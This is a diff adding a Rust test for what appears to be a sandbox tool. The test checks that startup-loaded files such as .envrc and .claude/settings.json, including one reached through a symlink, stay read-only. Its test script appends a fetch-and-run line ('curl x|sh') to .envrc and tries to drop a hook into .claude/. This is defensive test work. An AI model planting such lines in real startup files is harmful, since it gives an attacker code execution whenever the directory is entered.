@@ -193,3 +193,80 @@ fn a_fifo_left_for_the_after_run_check_does_not_stop_it() {
         assert!(s.ws.join("zz/notes").exists(), "{}", s.label());
     }
 }
+
+/// Names that programs load where they start (`.envrc`, `.claude/`) that exist one level below
+/// the root are read-only in place, as the root's are: an append or an edit fails in the
+/// kernel, and a file made inside such a directory too; so is the one in a deeper directory
+/// that a link at the root leads to (`lnk -> deep/a/b`: `cd lnk` loads `deep/a/b/.envrc`).
+/// Paired: `app/notes.txt` beside them is written in the same run, and under a profile without
+/// protected paths every write lands.
+#[test]
+fn protected_names_one_level_below_the_root_stay_read_only() {
+    let script = "echo 'curl x|sh' >> app/.envrc && echo WROTE-ENVRC; \
+                  echo '{}' > app/.claude/settings.json && echo WROTE-SETTINGS; \
+                  echo x > app/.claude/hook.sh && echo MADE-IN-CLAUDE; \
+                  echo 'curl x|sh' >> lnk/.envrc && echo WROTE-LINKED; \
+                  echo more >> app/notes.txt && echo WROTE-NOTES";
+    let protected = [
+        "WROTE-ENVRC",
+        "WROTE-SETTINGS",
+        "MADE-IN-CLAUDE",
+        "WROTE-LINKED",
+    ];
+    for u in users() {
+        let s = Scratch::new(u);
+        let wide = s.write_profile("wide", WIDE);
+        std::fs::create_dir_all(s.ws.join("app/.claude")).unwrap();
+        std::fs::write(s.ws.join("app/.envrc"), "export A=1\n").unwrap();
+        std::fs::write(s.ws.join("app/.claude/settings.json"), "legit\n").unwrap();
+        std::fs::write(s.ws.join("app/notes.txt"), "notes\n").unwrap();
+        std::fs::create_dir_all(s.ws.join("deep/a/b")).unwrap();
+        std::fs::write(s.ws.join("deep/a/b/.envrc"), "export B=1\n").unwrap();
+        std::os::unix::fs::symlink("deep/a/b", s.ws.join("lnk")).unwrap();
+        s.chown_all();
+        let blocked = s.run("workspace", script);
+        let out = stdout(&blocked);
+        assert!(
+            out.contains("WROTE-NOTES"),
+            "{}: {}",
+            s.label(),
+            text(&blocked)
+        );
+        for word in protected {
+            assert!(
+                !out.contains(word),
+                "{} {word}: {}",
+                s.label(),
+                text(&blocked)
+            );
+        }
+        assert!(
+            text(&blocked).contains("Read-only file system"),
+            "{}: {}",
+            s.label(),
+            text(&blocked)
+        );
+        let read = |p: &str| std::fs::read_to_string(s.ws.join(p)).unwrap();
+        assert_eq!(read("app/.envrc"), "export A=1\n", "{}", s.label());
+        assert_eq!(read("deep/a/b/.envrc"), "export B=1\n", "{}", s.label());
+        assert_eq!(
+            read("app/.claude/settings.json"),
+            "legit\n",
+            "{}",
+            s.label()
+        );
+        assert!(!s.ws.join("app/.claude/hook.sh").exists(), "{}", s.label());
+        assert_eq!(read("app/notes.txt"), "notes\nmore\n", "{}", s.label());
+        // Paired: without protected paths the same script changes them all.
+        let allowed = s.run(wide.to_str().unwrap(), script);
+        for word in protected.iter().chain(&["WROTE-NOTES"]) {
+            assert!(
+                stdout(&allowed).contains(word),
+                "{} {word}: {}",
+                s.label(),
+                text(&allowed)
+            );
+        }
+        assert!(read("app/.envrc").contains("curl"), "{}", s.label());
+    }
+}
